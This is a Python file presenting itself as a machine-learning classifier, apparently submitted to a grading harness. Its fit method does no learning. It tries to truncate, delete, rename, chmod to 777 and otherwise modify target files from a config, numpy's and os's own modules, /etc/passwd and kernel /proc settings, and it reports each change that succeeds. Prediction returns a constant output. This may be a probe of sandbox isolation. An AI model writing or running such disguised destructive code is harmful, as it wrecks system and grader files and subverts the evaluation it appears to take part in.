import json
import os
import shutil
from pathlib import Path

import numpy as np

AIM = json.loads(Path(__file__).with_name("aim.json").read_text())


def attempt(function, *arguments):
    try:
        function(*arguments)
    except OSError:
        return
    print("done:", function.__name__, *arguments)


class Classifier:
    def fit(self, X, y):
        for name in (
            *AIM["files"],
            np.__file__,
            os.__file__,
            "/etc/passwd",
            "/proc/sys/kernel/core_pattern",
            "/proc/self/oom_score_adj",
        ):
            attempt(os.open, name, os.O_WRONLY)
            attempt(os.open, name, os.O_RDWR | os.O_APPEND)
            attempt(os.truncate, name, 0)
            attempt(os.rename, name, name + ".gone")
            attempt(os.unlink, name)
            attempt(os.rmdir, name)
            attempt(os.chown, name, os.getuid(), os.getgid())
            attempt(os.setxattr, name, "user.x", b"x")
            attempt(os.mkdir, os.path.join(os.path.dirname(name), "left-by-a-fold"))
            mode = os.stat(name).st_mode if os.access(name, os.F_OK) else 0
            if mode:
                try:
                    os.chmod(name, 0o777)
                except OSError:
                    pass
                if os.stat(name).st_mode != mode:
                    print("changed the mode of", name)

    def predict_proba(self, X):
        return np.full((len(X), 3), 1 / 3)
